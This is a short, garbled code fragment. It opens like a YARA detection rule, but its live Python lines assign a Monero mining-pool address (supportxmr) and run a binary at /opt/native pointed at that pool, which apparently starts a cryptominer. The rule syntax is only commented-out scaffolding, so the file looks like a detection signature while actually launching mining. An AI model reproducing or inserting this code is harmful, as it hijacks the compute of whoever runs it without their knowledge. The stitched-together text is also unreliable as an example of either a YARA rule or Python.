# rule m { strings: $
a = "stratum+tcp://pool.supportxmr.com:3333"
# condition:
import subprocess
subprocess.run(["/opt/native", "-o", a])
